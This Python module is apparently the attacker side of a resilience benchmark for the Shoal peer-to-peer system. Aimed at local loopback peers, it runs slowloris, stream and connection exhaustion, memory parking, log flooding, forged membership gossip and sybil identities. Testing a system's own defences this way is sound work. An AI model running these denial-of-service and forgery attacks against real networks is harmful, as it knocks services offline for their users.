"""The attacker of `bench.hostile`: one attack on a live run, from 1 or many identities on one IP.

Started by `bench.hostile` as its own process (`python -m bench.hostile_attacks ...`), so that the
attacker's event loop and memory are apart from the benchmark's measurements. Every socket it opens,
through Shoal's own transport Host (Noise + yamux, a fresh Ed25519 key per identity) or raw, is bound
to `--bind` (127.0.1.1 by default: Linux routes all of 127/8 to lo, and the honest peers listen on
127.0.0.1), so that the honest daemons see one stranger's address, in another /24 than their own.

Each attack is an asyncio client written here against the run protocol as `peer/daemon.py` and
docs/run-protocol.md define it; it stops by itself at `--deadline` (a wall-clock time), cancels every
task, closes every Host and socket, and writes what it did to `--json-out`:

    forged_membership     gossips `members` tables that mark a live honest peer left, with a heartbeat it
                          cannot out-count, and 50 invented members (signed with the attacker's key)
    request_slots         64 `weights` requests whose answers it never reads
    idle_streams          2,048 idle streams on the run protocol (as many as the per-identity caps allow)
    memory                parked run-protocol streams, each sending a request's bytes up to its window
    slowloris             64 TCP connections that never start the handshake (raw sockets)
    connection_table      255 authenticated connections to the same peer, held open
    dht_slots             512 idle streams on the DHT protocol
    ping_streams          1,024 ping streams, opened and never used
    log_flood             garbage bytes on new TCP connections, bad run requests, failed negotiations,
                          membership tables of malformed entries
    weights_to_strangers  a non-member asking for the weights again and again (8 requests at a time)

and, beyond the issue's list (run only when named), `weights_self_registered`: the same stranger after it
gossiped a membership entry for itself; `sybil_members`: 50 members, each signing its own entry;
`silent_sybils`: 50 such members minted in advance, at an address that accepts TCP and then says nothing.

With several identities, held resources are split evenly among them (each on its own connections) and
requests go out from each identity in turn: the total load is the same as from one identity.
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import functools
import json
import math
import os
import re
import resource
import time
from collections import Counter
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ed25519

from shoal.dht.protocol import PROTOCOL_ID as DHT_PROTOCOL
from shoal.gossip.membership import Membership
from shoal.peer.daemon import PROTOCOL_VERSION, RUN_PROTOCOL
from shoal.transport import multistream
from shoal.transport.connection import Connection, Stream
from shoal.transport.host import PING_PROTOCOL_ID, Host
from shoal.transport.identity import PeerID, generate_key, peer_id_from_key
from shoal.transport.identity_work import mine
from shoal.transport.limits import HostLimits
from shoal.transport.messages import LENGTH_PREFIX, read_frame, write_message
from shoal.transport.multiaddr import Multiaddr

# The attacker's own Host must not cap what it does to the victim: its limits are far above the victim's.
ATTACKER_LIMITS = HostLimits(
    max_connections=8192, max_connections_per_peer=8192, idle_timeout_s=3600.0, negotiate_timeout_s=10.0
)
VICTIM_CONNECTIONS_PER_IDENTITY = 4  # transport/limits.py max_connections_per_peer: a fifth evicts one
STREAMS_PER_CONNECTION = 250  # yamux's 256 per connection, both directions, less a little room
REFILL_S = 1.0  # how often a held pool reopens what the victim closed
OPEN_BURST = 64  # streams opened at once on one connection during a refill
DIALS_IN_FLIGHT = 8  # authenticated dials at once: the victim's max_pending_handshakes_per_ip
REDIAL_PAUSE_S = 1.0  # after a held connection closes, before it is opened again
ANSWER_LIMIT = 64 << 20  # what the attacker reads of an answer
INVENTED_MEMBERS = 50
GOSSIP_PERIOD_S = 0.5  # forged tables sent to every honest peer this often (honest gossip: 1 s)
FORGED_HEARTBEAT = 2**62  # above any honest heartbeat (wall clock in ms plus beats)
DEAD_PORT = 1  # invented members' addresses: nothing listens there, a dial is refused at once
SILENT_SYBILS = 50
SYBIL_IP = "127.0.1.2"  # where the silent sybils' socket listens: the attacker's machine, another address
SYBIL_CACHE = "bench/out/sybil-identities-{bits}.json"  # minted once, reused by every trial
MALFORMED_ENTRIES = 4096  # gossip/membership.py MAX_MEMBERS: the largest table a peer reads


@dataclass
class Identity:
    host: Host
    peer_id: str
    key: ed25519.Ed25519PrivateKey | None = None  # to sign its own membership entry


@dataclass
class Attack:
    """What every attack gets: the victim, the run, its identities, and the counters it fills."""

    name: str
    run: str
    victim: Multiaddr  # the honest peer attacked (with /p2p/ID)
    members: list[Multiaddr]  # every honest peer (victim first)
    subject: str  # the honest peer whose membership entry forged_membership attacks
    bind: str
    identities: list[Identity]
    counters: Counter[str] = field(default_factory=Counter)
    errors: Counter[str] = field(default_factory=Counter)
    error_samples: dict[str, str] = field(default_factory=dict)  # one message per kind of error
    refusals: Counter[str] = field(default_factory=Counter)  # `refuse` answers by reason
    gauges: dict[str, int] = field(default_factory=dict)  # pool -> resources held now
    held_samples: list[int] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)
    sources: set[str] = field(default_factory=set)  # source addresses the attacker's sockets used
    # Dials at once: more from one address than the victim's pending-handshake cap per address (8) would
    # evict our own handshakes.
    dials: asyncio.Semaphore = field(default_factory=lambda: asyncio.Semaphore(DIALS_IN_FLIGHT))
    tasks: set[asyncio.Task[Any]] = field(default_factory=set)
    _turn: int = 0

    @property
    def victim_id(self) -> PeerID:
        assert self.victim.peer_id is not None
        return self.victim.peer_id

    def next_identity(self) -> Identity:
        """Requests go out from each identity in turn."""
        self._turn += 1
        return self.identities[self._turn % len(self.identities)]

    def error(self, where: str, exc: BaseException) -> None:
        kind = f"{where}: {type(exc).__name__}"
        self.errors[kind] += 1
        if kind not in self.error_samples and len(self.error_samples) < 16:
            self.error_samples[kind] = str(exc)[:200]

    def spawn(self, coro: Awaitable[Any]) -> None:
        task = asyncio.ensure_future(coro)
        self.tasks.add(task)
        task.add_done_callback(self.tasks.discard)

    def message(self, me: Identity, kind: str, **fields: Any) -> dict[str, Any]:
        return {"v": PROTOCOL_VERSION, "type": kind, "run": self.run, "from": me.peer_id, **fields}


class BoundLoop(asyncio.SelectorEventLoop):
    """An event loop whose outgoing TCP connections leave from the attacker's address (the Host dials with
    `loop.create_connection(factory, host, port)`, which has no source address of its own)."""

    bind_ip: str | None = None

    async def create_connection(self, protocol_factory: Any, host: Any = None, port: Any = None, **kw: Any):
        if self.bind_ip and kw.get("sock") is None and kw.get("local_addr") is None:
            kw["local_addr"] = (self.bind_ip, 0)
        return await super().create_connection(protocol_factory, host, port, **kw)


# ---------------------------------------------------------------- building blocks


def split(total: int, parts: int) -> list[int]:
    """`total` shared out as evenly as possible among `parts`."""
    return [total // parts + (1 if i < total % parts else 0) for i in range(parts)]


def alive(stream: Stream) -> bool:
    """Whether the victim still holds the stream (not reset, not closed by it, connection up)."""
    conn = stream._conn
    return (
        stream._error is None
        and not stream._eof
        and stream.stream_id in conn.streams
        and not conn.closed.done()
    )


async def negotiate(stream: Stream, protocol: str) -> Stream:
    """multistream-select on a stream we opened (the Host's `new_stream` would pick the connection)."""
    dialer = multistream.MultistreamDialer([protocol])
    while True:
        out = dialer.data_to_send()
        if out:
            await stream.write(out)
        if dialer.done:
            break
        data = await stream.read()
        if not data:
            raise ConnectionError(f"the victim closed the stream while negotiating {protocol}")
        dialer.receive_data(data)
    stream.protocol = protocol
    stream.unread(dialer.unused_data)
    return stream


async def open_on(conn: Connection, protocol: str) -> Stream:
    stream = conn.open_stream()
    try:
        async with asyncio.timeout(10.0):
            return await negotiate(stream, protocol)
    except BaseException:
        await stream.reset()
        raise


async def dial(attack: Attack, me: Identity) -> Connection:
    """A new authenticated connection from `me` to the victim, beside any other it holds."""
    async with attack.dials:
        conn = await me.host.dial_new(attack.victim, attack.victim_id)
    attack.counters["dials"] += 1
    note_source(attack, conn)
    return conn


def note_source(attack: Attack, conn: Connection) -> None:
    if conn.local_addr is not None:
        attack.sources.add(conn.local_addr.tcp_endpoint()[0])


async def request(attack: Attack, me: Identity, target: Multiaddr, message: dict[str, Any]) -> dict[str, Any]:
    """One run-protocol request as the daemon makes it: write, half-close, read one answer."""
    assert target.peer_id is not None
    async with asyncio.timeout(10.0):
        stream = await me.host.new_stream(target.peer_id, RUN_PROTOCOL, [target])
    note_source(attack, stream._conn)
    try:
        async with asyncio.timeout(30.0):
            await write_message(stream, message)
            await stream.close()
            answer, size = await read_frame(stream, ANSWER_LIMIT)
    except BaseException:
        await stream.reset()
        raise
    attack.counters["answer_bytes"] += size
    return answer


def sample_held(attack: Attack) -> None:
    attack.held_samples.append(sum(attack.gauges.values()))


async def hold_streams(
    attack: Attack,
    me: Identity,
    pool: str,
    target: int,
    protocol: str,
    on_open: Callable[[Identity, Stream], Awaitable[None]] | None = None,
) -> None:
    """Holds `target` streams of `protocol` on one connection of `me`, reopening what the victim closes (and
    the connection itself, after a pause, when the victim evicts it)."""
    conn: Connection | None = None
    streams: list[Stream] = []
    while True:
        if conn is None or conn.closed.done():
            if conn is not None:
                attack.counters["connections_lost"] += 1
                await asyncio.sleep(REDIAL_PAUSE_S)
            streams = []
            try:
                conn = await dial(attack, me)
            except Exception as exc:
                attack.error("dial", exc)
                conn = None
                attack.gauges[pool] = 0
                await asyncio.sleep(REDIAL_PAUSE_S)
                continue
        kept = []
        for stream in streams:
            if alive(stream):
                kept.append(stream)
            else:
                attack.counters["streams_closed_by_victim"] += 1
                await stream.reset()
        streams = kept
        attack.gauges[pool] = len(streams)  # what the victim let us keep since the last refill
        while len(streams) < target and not conn.closed.done():
            batch = min(OPEN_BURST, target - len(streams))
            opened = await asyncio.gather(
                *(open_on(conn, protocol) for _ in range(batch)), return_exceptions=True
            )
            for result in opened:
                if isinstance(result, Stream):
                    streams.append(result)
                    attack.counters["streams_opened"] += 1
                    if on_open is not None:
                        attack.spawn(_guarded(attack, "after open", on_open(me, result)))
                elif isinstance(result, Exception):
                    attack.error("open stream", result)
            if not any(isinstance(r, Stream) for r in opened):
                break  # the victim refuses streams here now: try again at the next refill
        await asyncio.sleep(REFILL_S)


async def _guarded(attack: Attack, where: str, coro: Awaitable[Any]) -> None:
    try:
        await coro
    except asyncio.CancelledError:
        raise
    except Exception as exc:
        attack.error(where, exc)


async def held_streams_attack(
    attack: Attack,
    total: int,
    protocol: str,
    on_open: Callable[[Identity, Stream], Awaitable[None]] | None = None,
    connections_per_identity: int | None = None,
) -> None:
    """`total` streams split among the identities, each on at most as many connections as the victim lets
    one identity hold, at most STREAMS_PER_CONNECTION per connection."""
    shares = split(total, len(attack.identities))
    held_target = 0
    async with asyncio.TaskGroup() as group:
        for me, share in zip(attack.identities, shares, strict=True):
            if share == 0:
                continue
            conns = connections_per_identity or min(
                VICTIM_CONNECTIONS_PER_IDENTITY, math.ceil(share / STREAMS_PER_CONNECTION)
            )
            for k, per_conn in enumerate(split(min(share, conns * STREAMS_PER_CONNECTION), conns)):
                held_target += per_conn
                pool = f"{me.peer_id[-6:]}/{k}"
                group.create_task(hold_streams(attack, me, pool, per_conn, protocol, on_open))
        attack.counters["streams_target"] = total
        attack.counters["streams_target_within_caps"] = held_target
        if held_target < total:
            attack.notes.append(
                f"{total} streams wanted, {held_target} attempted: {len(attack.identities)} identities "
                f"x at most "
                f"{VICTIM_CONNECTIONS_PER_IDENTITY} connections (the victim's per-identity cap) x "
                f"{STREAMS_PER_CONNECTION} streams (yamux's 256 per connection)"
            )
        group.create_task(_sampler(attack))


async def _sampler(attack: Attack) -> None:
    while True:
        await asyncio.sleep(1.0)
        sample_held(attack)


# ---------------------------------------------------------------- the attacks


async def forged_membership(attack: Attack) -> None:
    """Speaks for others: the subject's own signed entry re-sent with `left` set and a heartbeat it cannot
    out-count (the signature no longer matches), and 50 invented members whose entries the attacker signs
    with its own key (not theirs)."""
    me = attack.identities[0]
    answer = await request(attack, me, attack.victim, attack.message(me, "members", table=[]))
    table = answer.get("table") or []
    subject = next((e for e in table if isinstance(e, dict) and e.get("peer_id") == attack.subject), None)
    if subject is None:
        raise RuntimeError(f"the victim's table does not list {attack.subject}")
    attack.counters["honest_entries_learned"] = len(table)
    forger = Membership(generate_key(), attack.run, f"/ip4/{attack.bind}/tcp/{DEAD_PORT}", now=0.0)
    forger.set_ready()
    forger_sig = forger.table()[0]["sig"]
    invented = []
    for _ in range(INVENTED_MEMBERS):
        pid = str(peer_id_from_key(generate_key()))
        invented.append({"peer_id": pid, "addrs": [f"/ip4/127.0.1.2/tcp/{DEAD_PORT}/p2p/{pid}"]})
    base = max(int(e.get("heartbeat", 0)) for e in table if isinstance(e, dict)) + 1
    step = 0
    subject_round = int(subject.get("round", 0))
    loop = asyncio.get_running_loop()
    while True:
        started = loop.time()
        step += 1
        now_ms = time.time_ns() // 10**6
        forged = [
            {**subject, "heartbeat": FORGED_HEARTBEAT + step, "left": True, "at": now_ms},
            *(
                {"peer_id": m["peer_id"], "addrs": m["addrs"], "heartbeat": base + step,
                 "round": subject_round, "left": False, "ready": True, "at": now_ms, "sig": forger_sig}
                for m in invented
            ),
        ]  # fmt: skip
        sends = []
        for target in attack.members:
            sender = attack.next_identity()
            sends.append(_guarded(attack, "members", _send_members(attack, sender, target, forged)))
        await asyncio.gather(*sends)
        await asyncio.sleep(max(0.0, GOSSIP_PERIOD_S - (loop.time() - started)))


async def _work_bits(attack: Attack) -> int:
    """The identity work the run asks of a member: the victim's `members` answer says how much."""
    if "work_bits" not in attack.gauges:
        me = attack.identities[0]
        answer = await request(attack, me, attack.victim, attack.message(me, "members", table=[]))
        bits = answer.get("work_bits")
        attack.gauges["work_bits"] = bits if isinstance(bits, int) else 0
    return attack.gauges["work_bits"]


async def _mint(attack: Attack, peer_id: str) -> int:
    """The identity work the run asks of a member, mined for `peer_id`; the time it took is counted, since
    it is what an identity costs the attacker."""
    bits = await _work_bits(attack)
    started = time.monotonic()
    nonce = await asyncio.to_thread(mine, peer_id, bits)
    attack.counters["identities_minted"] += 1
    attack.counters["mint_ms"] += int(1000 * (time.monotonic() - started))
    return nonce or 0


async def sybil_members(attack: Attack) -> None:
    """Beyond the issue's list: 50 members that each sign their own entry (ready, at an address where
    nothing listens), kept alive by fresh heartbeats: what a free identity buys in an open run."""
    sybils = []
    for _ in range(INVENTED_MEMBERS):
        key = generate_key()
        work = await _mint(attack, str(peer_id_from_key(key)))
        sybil = Membership(key, attack.run, f"/ip4/127.0.1.2/tcp/{DEAD_PORT}", now=0.0,
                           incarnation=time.time_ns() // 10**6, work=work)  # fmt: skip
        sybil.set_ready()
        sybils.append(sybil)
    await _gossip_sybils(attack, sybils)


async def _gossip_sybils(attack: Attack, sybils: list[Membership]) -> None:
    """Every GOSSIP_PERIOD_S, each sybil's fresh heartbeat, signed by itself, to every honest peer."""
    loop = asyncio.get_running_loop()
    while True:
        started = loop.time()
        table = []
        for sybil in sybils:
            sybil.beat(started, round_number=0)
            table.append(sybil.table()[0])
        sends = [
            _guarded(attack, "members", _send_members(attack, attack.next_identity(), target, table))
            for target in attack.members
        ]
        await asyncio.gather(*sends)
        await asyncio.sleep(max(0.0, GOSSIP_PERIOD_S - (loop.time() - started)))


async def silent_sybils(attack: Attack) -> None:
    """Beyond the issue's list: SILENT_SYBILS members minted in advance (an attacker reuses its identities
    across runs: the work is bound to the peer id only), each signing its own entry (ready), at an address
    where a socket accepts TCP and then says nothing, kept alive by fresh heartbeats. Every honest peer
    paired with one waits for it in vain: the handshake's deadline, or the silent partner's."""
    bits = await _work_bits(attack)
    minted = await asyncio.to_thread(sybil_identities, SILENT_SYBILS, bits)
    attack.counters["identities_minted_before"] = len(minted)
    held: list[asyncio.StreamWriter] = []

    async def hold(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        held.append(writer)  # never read, never answered, never closed while the attack runs
        attack.counters["silent_connections"] += 1

    server = await asyncio.start_server(hold, SYBIL_IP, 0)
    port = server.sockets[0].getsockname()[1]
    sybils = []
    for key, work in minted:
        sybil = Membership(key, attack.run, f"/ip4/{SYBIL_IP}/tcp/{port}", now=0.0,
                           incarnation=time.time_ns() // 10**6, work=work)  # fmt: skip
        sybil.set_ready()
        sybils.append(sybil)
    try:
        await _gossip_sybils(attack, sybils)
    finally:
        server.close()
        for writer in held:
            writer.transport.abort()


def sybil_identities(count: int, bits: int) -> list[tuple[ed25519.Ed25519PrivateKey, int]]:
    """`count` keys with their identity work at `bits`, from SYBIL_CACHE (mined and added when missing)."""
    path = Path(SYBIL_CACHE.format(bits=bits))
    saved = json.loads(path.read_text()) if path.exists() else []
    while len(saved) < count:
        key = generate_key()
        saved.append(
            {"key": key.private_bytes_raw().hex(), "work": mine(str(peer_id_from_key(key)), bits) or 0}
        )
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(json.dumps(saved))
    return [
        (ed25519.Ed25519PrivateKey.from_private_bytes(bytes.fromhex(item["key"])), int(item["work"]))
        for item in saved[:count]
    ]


async def _send_members(attack: Attack, me: Identity, target: Multiaddr, table: list[dict[str, Any]]) -> None:
    answer = await request(attack, me, target, attack.message(me, "members", table=table))
    attack.counters["forged_tables_sent"] += 1
    listed = {e.get("peer_id"): e for e in answer.get("table") or [] if isinstance(e, dict)}
    entry = listed.get(attack.subject)
    if entry is not None and entry.get("left") is True:
        attack.counters["answers_listing_subject_as_left"] += 1


async def request_slots(attack: Attack) -> None:
    async def ask_and_never_read(me: Identity, stream: Stream) -> None:
        await write_message(stream, attack.message(me, "weights"))
        await stream.close()
        attack.counters["weights_requests_unread"] += 1

    await held_streams_attack(attack, 64, RUN_PROTOCOL, ask_and_never_read)


async def idle_streams(attack: Attack) -> None:
    await held_streams_attack(attack, 2048, RUN_PROTOCOL)


async def memory(attack: Attack) -> None:
    """Each stream announces a 1 MiB request (within every limit) and sends its body until the window
    stops it, never finishing: a parked stream holds its window in the victim until a slot reads it."""
    length = 1 << 20
    body = memoryview(bytes(length - 1))

    async def park(_: Identity, stream: Stream) -> None:
        await stream.write(LENGTH_PREFIX.pack(length))
        await stream.write(body)  # blocks at the window; never completes while nobody reads
        attack.counters["bodies_completed"] += 1

    await held_streams_attack(attack, 4 * STREAMS_PER_CONNECTION, RUN_PROTOCOL, park)


async def dht_slots(attack: Attack) -> None:
    await held_streams_attack(attack, 512, DHT_PROTOCOL)


async def ping_streams(attack: Attack) -> None:
    await held_streams_attack(attack, 1024, PING_PROTOCOL_ID)


async def connection_table(attack: Attack) -> None:
    async def hold(me: Identity, pool: str) -> None:
        while True:
            try:
                conn = await dial(attack, me)
            except Exception as exc:
                attack.error("dial", exc)
                await asyncio.sleep(REDIAL_PAUSE_S)
                continue
            attack.gauges[pool] = 1
            await asyncio.shield(conn.closed)
            attack.gauges[pool] = 0
            attack.counters["connections_lost"] += 1
            await asyncio.sleep(REDIAL_PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for me, share in zip(attack.identities, split(255, len(attack.identities)), strict=True):
            for k in range(share):
                group.create_task(hold(me, f"{me.peer_id[-6:]}/{k}"))
        group.create_task(_sampler(attack))


async def _raw_connection(attack: Attack) -> tuple[asyncio.Transport, asyncio.Future[None]]:
    loop = asyncio.get_running_loop()
    closed: asyncio.Future[None] = loop.create_future()

    class Watch(asyncio.Protocol):
        def connection_lost(self, exc: Exception | None) -> None:
            if not closed.done():
                closed.set_result(None)

    host, port = attack.victim.tcp_endpoint()
    async with asyncio.timeout(10.0):
        transport, _ = await loop.create_connection(Watch, host, port, local_addr=(attack.bind, 0))
    attack.sources.add(transport.get_extra_info("sockname")[0])
    return transport, closed


async def slowloris(attack: Attack) -> None:
    attack.notes.append("pre-handshake: no identity is ever proven, so the identity count changes nothing")

    async def hold(pool: str) -> None:
        while True:
            try:
                transport, closed = await _raw_connection(attack)
            except Exception as exc:
                attack.error("connect", exc)
                await asyncio.sleep(REDIAL_PAUSE_S)
                continue
            attack.counters["tcp_connections"] += 1
            attack.gauges[pool] = 1
            try:
                await closed
            finally:
                transport.abort()
            attack.gauges[pool] = 0
            attack.counters["closed_by_victim"] += 1
            await asyncio.sleep(REDIAL_PAUSE_S)

    async with asyncio.TaskGroup() as group:
        for k in range(64):
            group.create_task(hold(f"tcp/{k}"))
        group.create_task(_sampler(attack))


async def log_flood(attack: Attack) -> None:
    """Per second: 100 TCP connections that send garbage instead of a handshake, 50 run requests the
    victim must drop (wrong run, forged sender, unknown type, undecodable body), 20 streams proposing
    protocols the victim does not speak, and 1 `members` request whose table holds MALFORMED_ENTRIES
    malformed entries (each is dropped "with a log line", gossip/membership.py)."""
    in_flight = asyncio.Semaphore(128)
    garbage = os.urandom(64)

    async def junk_connection() -> None:
        transport, closed = await _raw_connection(attack)
        transport.write(garbage)
        attack.counters["garbage_connections"] += 1
        try:
            async with asyncio.timeout(2.0):
                await closed
        except TimeoutError:
            pass
        finally:
            transport.abort()

    async def bad_request(k: int) -> None:
        me = attack.next_identity()
        async with asyncio.timeout(10.0):
            stream = await me.host.new_stream(attack.victim_id, RUN_PROTOCOL, [attack.victim])
        try:
            variant = k % 4
            if variant == 0:
                await write_message(stream, {**attack.message(me, "status", round=1), "run": "not-this-run"})
            elif variant == 1:
                await write_message(
                    stream, {**attack.message(me, "status", round=1), "from": "12D3KooWnobody"}
                )
            elif variant == 2:
                await write_message(stream, attack.message(me, "nonsense"))
            else:
                await stream.write(LENGTH_PREFIX.pack(16) + b"\xc1" * 16)  # 0xc1: never valid msgpack
            await stream.close()
            attack.counters["bad_requests"] += 1
            with contextlib.suppress(Exception):
                async with asyncio.timeout(5.0):
                    await stream.read()
        finally:
            await stream.reset()

    async def malformed_table() -> None:
        me = attack.next_identity()
        table = [{"peer_id": k} for k in range(MALFORMED_ENTRIES)]  # a peer id must be a string
        await request(attack, me, attack.victim, attack.message(me, "members", table=table))
        attack.counters["malformed_tables"] += 1

    async def bad_negotiation() -> None:
        me = attack.next_identity()
        try:
            async with asyncio.timeout(10.0):
                stream = await me.host.new_stream(
                    attack.victim_id, "/shoal/no-such-protocol/9.9.9", [attack.victim]
                )
            await stream.reset()
        except Exception:
            attack.counters["bad_negotiations"] += 1
            return
        attack.counters["unexpected_negotiations"] += 1

    async def limited(coro: Awaitable[None], where: str) -> None:
        try:
            await _guarded(attack, where, coro)
        finally:
            in_flight.release()

    async def launch(make: Callable[[], Awaitable[None]], where: str) -> None:
        if in_flight.locked():
            attack.counters["skipped_for_backlog"] += 1
            return
        await in_flight.acquire()
        attack.spawn(limited(make(), where))

    k = 0
    loop = asyncio.get_running_loop()
    while True:
        tick = loop.time()
        for _ in range(10):
            await launch(junk_connection, "garbage")
        for _ in range(5):
            k += 1
            await launch(functools.partial(bad_request, k), "bad request")
        for _ in range(2):
            await launch(bad_negotiation, "bad negotiation")
        if k % 50 == 0:
            await launch(malformed_table, "malformed table")
        await asyncio.sleep(max(0.0, 0.1 - (loop.time() - tick)))


async def _fetch_weights_forever(attack: Attack) -> None:
    while True:
        me = attack.next_identity()
        try:
            answer = await request(attack, me, attack.victim, attack.message(me, "weights"))
        except Exception as exc:
            attack.error("weights", exc)
            await asyncio.sleep(0.2)
            continue
        if answer.get("type") == "weights" and isinstance(answer.get("data"), bytes):
            attack.counters["weights_answers"] += 1
            attack.counters["bytes_served_to_stranger"] += len(answer["data"])
        else:
            attack.counters["refusals"] += 1
            attack.refusals[re.sub(r"\d+", "N", str(answer.get("reason")))[:100]] += 1
            await asyncio.sleep(0.2)


async def weights_to_strangers(attack: Attack) -> None:
    attack.counters["bytes_served_to_stranger"] = 0
    async with asyncio.TaskGroup() as group:
        for _ in range(8):
            group.create_task(_fetch_weights_forever(attack))


async def weights_self_registered(attack: Attack) -> None:
    """Beyond the issue's list: the stranger first gossips a membership entry for itself (signed: a member
    may speak for itself), then asks for the weights as in weights_to_strangers."""
    attack.counters["bytes_served_to_stranger"] = 0

    async def register_forever(me: Identity) -> None:
        dead = f"/ip4/{attack.bind}/tcp/{DEAD_PORT}/p2p/{me.peer_id}"
        assert me.key is not None
        work = await _mint(attack, me.peer_id)
        self_entry = Membership(
            me.key, attack.run, dead, now=0.0, incarnation=time.time_ns() // 10**6, work=work
        )
        while True:
            self_entry.beat(0.0, round_number=0)
            try:
                table = self_entry.table()
                await request(attack, me, attack.victim, attack.message(me, "members", table=table))
                attack.counters["self_registrations"] += 1
            except Exception as exc:
                attack.error("register", exc)
            await asyncio.sleep(1.0)

    async with asyncio.TaskGroup() as group:
        for me in attack.identities:
            group.create_task(register_forever(me))
        await asyncio.sleep(1.0)
        for _ in range(8):
            group.create_task(_fetch_weights_forever(attack))


ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "forged_membership": forged_membership,
    "request_slots": request_slots,
    "idle_streams": idle_streams,
    "memory": memory,
    "slowloris": slowloris,
    "connection_table": connection_table,
    "dht_slots": dht_slots,
    "ping_streams": ping_streams,
    "log_flood": log_flood,
    "weights_to_strangers": weights_to_strangers,
}
# Not in the list, so not run by default: `--attacks weights_self_registered`.
EXTRA_ATTACKS: dict[str, Callable[[Attack], Awaitable[None]]] = {
    "weights_self_registered": weights_self_registered,
    "sybil_members": sybil_members,
    "silent_sybils": silent_sybils,
}
RAW_ATTACKS = ("slowloris",)  # no Host at all


async def run(options: argparse.Namespace) -> dict[str, Any]:
    loop = asyncio.get_running_loop()
    assert isinstance(loop, BoundLoop)
    loop.bind_ip = options.bind
    members = [Multiaddr.parse(a) for a in options.member]
    identities: list[Identity] = []
    attack = Attack(
        name=options.attack, run=options.run, victim=members[0], members=members, subject=options.subject,
        bind=options.bind, identities=identities,
    )  # fmt: skip
    started = time.time()
    outcome = "ran until its deadline"
    try:
        if options.attack not in RAW_ATTACKS:
            for _ in range(options.identities):
                key = generate_key()
                host = await Host.create(key, limits=ATTACKER_LIMITS)
                identities.append(Identity(host, str(host.peer_id), key))
        await asyncio.sleep(max(0.0, options.start - time.time()))  # set up before the window opens
        started = time.time()
        try:
            async with asyncio.timeout(max(0.0, options.deadline - time.time())):
                await {**ATTACKS, **EXTRA_ATTACKS}[options.attack](attack)
            outcome = "ended early"
        except TimeoutError:
            pass
        except Exception as exc:  # an attack that cannot go on says why, in the JSON
            outcome = f"failed: {type(exc).__name__}: {exc}"
    finally:
        for task in list(attack.tasks):
            task.cancel()
        await asyncio.gather(*attack.tasks, return_exceptions=True)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(15.0):
                await asyncio.gather(*(i.host.close() for i in identities), return_exceptions=True)
    usage = resource.getrusage(resource.RUSAGE_SELF)
    held = attack.held_samples
    return {
        "attack": options.attack,
        "identities": options.identities if options.attack not in RAW_ATTACKS else 0,
        "attacker_ip": options.bind,
        "source_ips_seen": sorted(attack.sources),
        "outcome": outcome,
        "seconds": round(time.time() - started, 1),
        "cpu_s": round(usage.ru_utime + usage.ru_stime, 1),
        "held_peak": max(held, default=None),
        "held_mean": round(sum(held) / len(held), 1) if held else None,
        **dict(attack.counters),
        "errors": dict(attack.errors.most_common(8)),
        "error_samples": attack.error_samples,
        "refusal_reasons": dict(attack.refusals.most_common(4)),
        "notes": attack.notes,
    }


def main() -> None:
    parser = argparse.ArgumentParser(
        prog="python -m bench.hostile_attacks", description=__doc__.split("\n\n")[0]
    )
    parser.add_argument("--attack", choices=sorted({**ATTACKS, **EXTRA_ATTACKS}), required=True)
    parser.add_argument("--identities", type=int, default=1)
    parser.add_argument("--start", type=float, default=0.0, help="wall-clock time (time.time()) to start at")
    parser.add_argument(
        "--deadline", type=float, required=True, help="wall-clock time (time.time()) to stop at"
    )
    parser.add_argument("--run", required=True, help="the run id of the honest peers")
    parser.add_argument(
        "--member", action="append", required=True, help="an honest peer's multiaddr; the first is attacked"
    )
    parser.add_argument("--subject", required=True, help="the peer id forged_membership marks as left")
    parser.add_argument("--bind", default="127.0.1.1", help="the attacker's source address")
    parser.add_argument("--json-out", required=True)
    options = parser.parse_args()
    with asyncio.Runner(loop_factory=BoundLoop) as runner:
        result = runner.run(run(options))
    Path(options.json_out).write_text(json.dumps(result, indent=2))


if __name__ == "__main__":
    main()
